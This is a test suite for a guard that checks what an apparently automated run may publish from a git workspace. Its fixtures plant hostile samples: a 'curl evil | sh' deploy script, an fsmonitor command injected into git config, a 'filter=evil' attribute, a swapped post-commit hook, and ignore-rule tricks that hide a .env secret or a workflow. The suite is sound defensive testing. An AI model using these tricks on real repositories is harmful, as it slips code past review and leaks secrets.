// The outcome check against a run that tries to publish what it may not: ignore rules written
// during the run (a .gitignore, a nested one, info/exclude, core.excludesFile), commits that held
// a path and dropped it again, a force-added ignored file. The paths the check saw are exactly
// the paths published: the diff and the pushed commits are asserted, over real repositories.
import { execFileSync } from 'node:child_process';
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { loadPolicy } from '../../src/policy/index.js';
import { collectDiff, stageChanges, StagingRefusedError } from '../../src/workspace/diff.js';
import { anchorIgnoreRules, checkOutcome, listChanges, type OutcomeResult } from '../../src/workspace/outcome.js';
import { guardGitDir } from '../../src/workspace/git-dir-guard.js';
import { commitAndPush } from '../../src/workspace/push.js';
import { openSealed } from '../../src/workspace/sealed.js';

const SECRET = 'OUTCOME_BYPASS_SECRET_7c21';
const POLICY = 'version: 1\nallow:\n  - Read\n  - Edit(src/**)\ndeny:\n  - Read(.env*)\n  - Read(secrets/**)\n';
const ENV = { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@e.test', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@e.test', GIT_CONFIG_GLOBAL: '/dev/null' };

interface Repo {
  ws: string;
  remote: string;
  base: string;
  git: (...args: string[]) => string;
}

/** A clone on branch `feature` of a bare remote; .gitignore ignores build/; an earlier step left .env. */
function repo(files: Record<string, string> = {}): Repo {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'marshal-bypass-'));
  const remote = path.join(dir, 'remote.git');
  const ws = path.join(dir, 'ws');
  const git = (...args: string[]) => execFileSync('git', args, { cwd: ws, env: ENV, encoding: 'utf8' });
  execFileSync('git', ['init', '-q', '--bare', '-b', 'main', remote]);
  execFileSync('git', ['init', '-q', '-b', 'main', ws]);
  const all = { 'src/a.js': 'a\n', 'README.md': 'readme\n', '.gitignore': 'build/\n*.log\n', '.github/workflows/ci.yml': 'on: push\n', ...files };
  for (const [rel, text] of Object.entries(all)) {
    mkdirSync(path.dirname(path.join(ws, rel)), { recursive: true });
    writeFileSync(path.join(ws, rel), text);
  }
  git('add', '-A');
  git('commit', '-qm', 'base');
  git('remote', 'add', 'origin', remote);
  git('push', '-q', 'origin', 'main', 'main:feature');
  git('checkout', '-q', '-b', 'feature');
  // Left by an earlier workflow step: untracked, NOT ignored by the start commit, world-readable.
  writeFileSync(path.join(ws, '.env'), `API_TOKEN=${SECRET}\n`);
  return { ws, remote, base: git('rev-parse', 'HEAD').trim(), git };
}

/** Check, diff and push the way a run does; returns what left the machine. */
async function publish(r: Repo): Promise<{ outcome: OutcomeResult; diff: string; files: string[]; /** Paths the pushed branch changes. */ pushedTree: string[]; pushedHistory: string }> {
  const policy = await loadPolicy({ cwd: r.ws, text: POLICY, source: 'test' });
  const outcome = await checkOutcome({ cwd: r.ws, baseSha: r.base, policy });
  const diff = await collectDiff(r.ws, r.base, undefined, outcome.publish ?? outcome.exclude);
  let pushedTree: string[] = [];
  let pushedHistory = '';
  if (diff.files.length) {
    await commitAndPush({ cwd: r.ws, branch: 'feature', defaultBranch: 'main', message: 'm\n', pushUrl: r.remote, changes: outcome.publish, exclude: outcome.exclude, baseSha: r.base });
    const sh = (...args: string[]) => execFileSync('git', args, { cwd: r.remote, env: ENV, encoding: 'utf8' });
    // What the pushed branch changes against the start commit.
    pushedTree = sh('diff', '--name-only', r.base, 'feature').split('\n').filter(Boolean);
    // Every commit the remote gained, whichever ref holds it.
    pushedHistory = sh('log', '-p', '--format=%H %s', '--all', `^${r.base}`);
  }
  return { outcome, diff: diff.diff, files: diff.files, pushedTree, pushedHistory };
}

function expectNothingLeaked(out: Awaited<ReturnType<typeof publish>>, forbidden: string[]): void {
  const everything = [out.diff, out.files.join('\n'), out.pushedTree.join('\n'), out.pushedHistory].join('\n');
  expect(everything).not.toContain(SECRET);
  for (const rel of forbidden) {
    expect(out.files, rel).not.toContain(rel);
    expect(out.pushedTree, rel).not.toContain(rel);
    expect(out.pushedHistory, rel).not.toContain(`b/${rel}`);
  }
}

describe('ignore rules written during the run hide nothing from the check, and publish nothing it did not see', () => {
  test('a .gitignore naming the untracked .env (then reverted): .env is dropped, never published', async () => {
    const r = repo();
    writeFileSync(path.join(r.ws, 'src', 'a.js'), 'changed\n');
    writeFileSync(path.join(r.ws, '.gitignore'), '.env\n');
    const out = await publish(r);
    expectNothingLeaked(out, ['.env']);
    expect(out.outcome.findings.find((f) => f.path === '.env')?.action).toBe('dropped');
    expect(out.outcome.findings.find((f) => f.path === '.gitignore')?.action).toBe('reverted');
    expect(out.files).toEqual(['src/a.js']);
    expect(out.pushedTree).toContain('src/a.js');
    // The secret never became an object, and the file is still there for later steps.
    const blob = r.git('hash-object', '.env').trim();
    expect(() => r.git('cat-file', '-e', blob)).toThrow();
    expect(readFileSync(path.join(r.ws, '.env'), 'utf8')).toContain(SECRET);
  });

  test('a .gitignore hiding a planted directory (then reverted): the directory is seen, reverted, not published', async () => {
    const r = repo();
    mkdirSync(path.join(r.ws, 'tools-out'));
    writeFileSync(path.join(r.ws, 'tools-out', 'run.sh'), 'echo later step runs me\n');
    writeFileSync(path.join(r.ws, '.gitignore'), 'build/\n*.log\ntools-out/\n');
    writeFileSync(path.join(r.ws, 'src', 'a.js'), 'changed\n');
    const out = await publish(r);
    expectNothingLeaked(out, ['.env', 'tools-out/run.sh', '.gitignore']);
    expect(out.outcome.findings.find((f) => f.path === 'tools-out/run.sh')?.action).toBe('reverted');
    expect(existsSync(path.join(r.ws, 'tools-out', 'run.sh'))).toBe(false);
  });

  test('a nested .github/.gitignore hiding a planted workflow: the workflow is seen and reverted', async () => {
    const r = repo();
    writeFileSync(path.join(r.ws, '.github', '.gitignore'), 'workflows/\n');
    writeFileSync(path.join(r.ws, '.github', 'workflows', 'evil.yml'), 'on: push\n');
    writeFileSync(path.join(r.ws, '.github', 'workflows', 'ci.yml'), 'on: pull_request_target\n');
    writeFileSync(path.join(r.ws, 'src', 'a.js'), 'changed\n');
    const out = await publish(r);
    expectNothingLeaked(out, ['.env', '.github/workflows/evil.yml', '.github/workflows/ci.yml', '.github/.gitignore']);
    expect(existsSync(path.join(r.ws, '.github', 'workflows', 'evil.yml'))).toBe(false);
    expect(readFileSync(path.join(r.ws, '.github', 'workflows', 'ci.yml'), 'utf8')).toBe('on: push\n');
  });
});

describe('the run\'s commits publish only what the check lets out', () => {
  test('a commit that added a workflow and a later one that removed it: the history is not pushed', async () => {
    const r = repo();
    writeFileSync(path.join(r.ws, '.github', 'workflows', 'evil.yml'), 'on: push\njobs: {steal: {}}\n');
    r.git('add', '.github/workflows/evil.yml');
    r.git('commit', '-qm', 'add');
    r.git('rm', '-q', '.github/workflows/evil.yml');
    writeFileSync(path.join(r.ws, 'src', 'a.js'), 'changed\n');
    r.git('add', 'src/a.js');
    r.git('commit', '-qm', 'remove again');
    const out = await publish(r);
    expectNothingLeaked(out, ['.github/workflows/evil.yml']);
    expect(out.pushedHistory).not.toContain('steal');
    expect(out.pushedTree).toContain('src/a.js');
    expect(out.outcome.findings.find((f) => f.path === '.github/workflows/evil.yml')?.action).toBe('reverted');
  });

  test('a force-added file the start commit ignores, committed: seen, reverted, not pushed', async () => {
    const r = repo();
    mkdirSync(path.join(r.ws, 'build'));
    writeFileSync(path.join(r.ws, 'build', 'deploy.sh'), 'curl evil | sh\n');
    r.git('add', '-f', 'build/deploy.sh');
    r.git('commit', '-qm', 'build');
    const out = await publish(r);
    expect(out.outcome.findings.find((f) => f.path === 'build/deploy.sh')?.action).toBe('reverted');
    expect(out.pushedHistory).not.toContain('curl evil');
    expect(out.pushedTree).not.toContain('build/deploy.sh');
  });

  test('clean commits of allowed paths are pushed as they are', async () => {
    const r = repo();
    writeFileSync(path.join(r.ws, 'src', 'b.js'), 'b\n');
    r.git('add', 'src/b.js');
    r.git('commit', '-qm', 'agent: add b');
    const head = r.git('rev-parse', 'HEAD').trim();
    const out = await publish(r);
    expect(out.outcome.findings).toEqual([{ path: '.env', action: 'dropped', reason: expect.any(String), rule: null }]);
    expect(execFileSync('git', ['rev-parse', 'feature'], { cwd: r.remote, encoding: 'utf8' }).trim()).toBe(head);
  });
});

describe('listing', () => {
  test('the start commit\'s nested ignore rules list exactly what git itself lists', async () => {
    const r = repo({
      '.gitignore': 'build/\n*.log\n!keep.log\n/rootonly.txt\ndocs/**/tmp\n',
      'pkg/.gitignore': 'dist\n/local.txt\n*.gen.ts\n!important.gen.ts\nsub/*.cache\n',
      'pkg/sub/.gitignore': '!x.cache\nnode_modules/\n',
      'we[ird] dir/.gitignore': '*.o\n',
    });
    const files = ['a.log', 'keep.log', 'rootonly.txt', 'pkg/rootonly.txt', 'docs/a/b/tmp', 'docs/tmp', 'pkg/dist/x.js', 'pkg/a/dist', 'pkg/local.txt', 'pkg/a/local.txt',
      'pkg/a.gen.ts', 'pkg/b/important.gen.ts', 'pkg/sub/y.cache', 'pkg/sub/x.cache', 'pkg/sub/node_modules/m.js', 'pkg/node_modules/n.js', 'we[ird] dir/a.o', 'we[ird] dir/a.c', 'other/a.o', 'build/out'];
    for (const rel of files) {
      mkdirSync(path.dirname(path.join(r.ws, rel)), { recursive: true });
      writeFileSync(path.join(r.ws, rel), 'x\n');
    }
    const gitSays = r.git('ls-files', '--others', '--exclude-standard', '-z').split('\0').filter(Boolean).sort();
    const listing = await listChanges(r.ws, r.base);
    expect(listing.changes.map((c) => c.rel).sort()).toEqual(gitSays);
  });

  test('a directory the run created may ignore its own content (.venv, caches); nothing else may', async () => {
    const r = repo();
    mkdirSync(path.join(r.ws, '.venv', 'lib'), { recursive: true });
    writeFileSync(path.join(r.ws, '.venv', '.gitignore'), '*\n');
    writeFileSync(path.join(r.ws, '.venv', 'lib', 'site.py'), 'x\n');
    writeFileSync(path.join(r.ws, 'src', '.gitignore'), '*\n');
    writeFileSync(path.join(r.ws, 'src', 'new.js'), 'x\n');
    const listing = await listChanges(r.ws, r.base);
    const rels = listing.changes.map((c) => c.rel).sort();
    expect(rels).toEqual(['.env', 'src/.gitignore', 'src/new.js']);
  });

  test('a file that became a directory, a deleted file, a symlink: staged as they are', async () => {
    const r = repo({ 'src/f': 'file\n', 'src/g': 'g\n' });
    const ws = r.ws;
    execFileSync('rm', [path.join(ws, 'src/f'), path.join(ws, 'src/g')]);
    mkdirSync(path.join(ws, 'src/f'));
    writeFileSync(path.join(ws, 'src/f/inner'), 'inner\n');
    execFileSync('ln', ['-s', 'a.js', path.join(ws, 'src/link')]);
    const out = await publish(r);
    expect(out.pushedTree.sort()).toEqual(['src/f', 'src/f/inner', 'src/g', 'src/link']);
    expect(execFileSync('git', ['cat-file', '-p', 'feature:src/f/inner'], { cwd: r.remote, encoding: 'utf8' })).toBe('inner\n');
  });

  test('rules of a nested .gitignore anchored to its directory', () => {
    expect(anchorIgnoreRules('# c\n\n*.o\n/local\nsub/x\n!keep.o\ndir/\n\\!bang\n', 'a/b')).toBe('# c\n\n/a/b/**/*.o\n/a/b/local\n/a/b/sub/x\n!/a/b/**/keep.o\n/a/b/**/dir/\n/a/b/**/\\!bang\n');
    expect(anchorIgnoreRules('x\n', 'we[ird]*')).toBe('/we\\[ird\\]\\*/**/x\n');
  });

  test('staging refuses a path the policy no longer lets out', async () => {
    const r = repo();
    writeFileSync(path.join(r.ws, 'src', 'a.js'), 'changed\n');
    const repoSealed = await openSealed(r.ws);
    try {
      await expect(stageChanges(repoSealed, { base: r.base, head: r.base, prefix: '', paths: ['src/a.js'], keepHistory: true, refuse: () => 'denied now' }, r.ws)).rejects.toBeInstanceOf(StagingRefusedError);
    } finally {
      repoSealed.close();
    }
  });
});

describe('git\'s own files are put back after the run', () => {
  test('commondir, a redirected config, modules/ and worktrees/ config, info/, alternates, a replaced hooksPath: removed or restored, and reported', async () => {
    const r = repo({ 'tools/hooks/pre-commit': '#!/bin/sh\nexit 0\n', 'tools/gitconfig': '[core]\n\tautocrlf = false\n' });
    execFileSync('chmod', ['+x', path.join(r.ws, 'tools/hooks/pre-commit')]);
    r.git('config', 'core.hooksPath', 'tools/hooks');
    r.git('config', 'include.path', '../tools/gitconfig');
    mkdirSync(path.join(r.ws, '.git', 'modules', 'sub'), { recursive: true });
    writeFileSync(path.join(r.ws, '.git', 'modules', 'sub', 'config'), '[core]\n\tbare = false\n');
    writeFileSync(path.join(r.ws, '.git', 'modules', 'sub', 'HEAD'), 'ref: refs/heads/main\n');
    const configBefore = readFileSync(path.join(r.ws, '.git', 'config'), 'utf8');
    const excludeBefore = readFileSync(path.join(r.ws, '.git', 'info', 'exclude'), 'utf8');
    const guard = await guardGitDir(r.ws);

    // Everyday work: a commit, a tag (refs stay the run's; they are listed, never pushed).
    writeFileSync(path.join(r.ws, 'src', 'a.js'), 'changed\n');
    r.git('-c', 'core.hooksPath=/dev/null', 'commit', '-qam', 'agent commit');
    r.git('tag', 'planted-tag');
    // What a hostile program under an allowed command does: a replace ref (later steps would read
    // another content for README.md), packed where a file walk would not see it...
    const other = execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd: r.ws, input: 'replaced\n', encoding: 'utf8' }).trim();
    r.git('replace', r.git('rev-parse', 'HEAD:README.md').trim(), other);
    r.git('pack-refs', '--all');
    r.git('replace', r.git('rev-parse', 'HEAD:src/a.js').trim(), other);
    const marker = path.join(r.ws, '..', 'ran');
    const planted = `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch ${marker}; false #"\n`;
    mkdirSync(path.join(r.ws, '.git', 'c'));
    execFileSync('cp', ['-r', path.join(r.ws, '.git', 'objects'), path.join(r.ws, '.git', 'refs'), path.join(r.ws, '.git', 'c')]);
    writeFileSync(path.join(r.ws, '.git', 'c', 'config'), planted);
    writeFileSync(path.join(r.ws, '.git', 'commondir'), 'c\n');
    writeFileSync(path.join(r.ws, '.git', 'config.worktree'), planted);
    writeFileSync(path.join(r.ws, '.git', 'modules', 'sub', 'config'), planted);
    mkdirSync(path.join(r.ws, '.git', 'worktrees', 'w'), { recursive: true });
    writeFileSync(path.join(r.ws, '.git', 'worktrees', 'w', 'config.worktree'), planted);
    appendFileSync(path.join(r.ws, '.git', 'info', 'exclude'), 'tools/\n');
    writeFileSync(path.join(r.ws, '.git', 'info', 'attributes'), '* filter=evil\n');
    mkdirSync(path.join(r.ws, '.git', 'objects', 'info'), { recursive: true });
    writeFileSync(path.join(r.ws, '.git', 'objects', 'info', 'alternates'), '/tmp\n');
    writeFileSync(path.join(r.ws, '.git', 'index.lock'), '');
    renameSync(path.join(r.ws, 'tools', 'hooks'), path.join(r.ws, 'tools', 'hooks.orig'));
    mkdirSync(path.join(r.ws, 'tools', 'hooks'));
    writeFileSync(path.join(r.ws, 'tools', 'hooks', 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
    writeFileSync(path.join(r.ws, 'tools', 'hooks', 'post-commit'), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
    writeFileSync(path.join(r.ws, 'tools', 'gitconfig'), planted);

    const changes = guard.restore();
    const changed = changes.map((c) => c.path).sort();
    for (const p of ['.git/c', '.git/commondir', '.git/config.worktree', '.git/modules/sub/config', '.git/worktrees', '.git/info/exclude', '.git/info/attributes', '.git/objects/info/alternates', 'tools/hooks/post-commit', 'tools/gitconfig']) {
      expect(changed, p).toContain(p);
    }
    expect(changed).not.toContain('.git/index.lock');
    expect(existsSync(path.join(r.ws, '.git', 'index.lock'))).toBe(false);
    expect(existsSync(path.join(r.ws, '.git', 'commondir'))).toBe(false);
    expect(readFileSync(path.join(r.ws, '.git', 'config'), 'utf8')).toBe(configBefore);
    expect(readFileSync(path.join(r.ws, '.git', 'info', 'exclude'), 'utf8')).toBe(excludeBefore);
    expect(readFileSync(path.join(r.ws, '.git', 'modules', 'sub', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
    expect(readFileSync(path.join(r.ws, 'tools', 'gitconfig'), 'utf8')).not.toContain('fsmonitor');
    expect(r.git('replace', '-l')).toBe('');
    expect(r.git('show', 'HEAD:README.md')).toBe('readme\n');
    expect(await guard.movedRefs()).toEqual(['refs/tags/planted-tag (new)']);
    // A later workflow step's git, as the runner: nothing planted runs.
    execFileSync('git', ['status', '--short'], { cwd: r.ws, env: ENV });
    execFileSync('git', ['commit', '-q', '--allow-empty', '-m', 'later step'], { cwd: r.ws, env: ENV });
    expect(existsSync(marker)).toBe(false);
  });
});
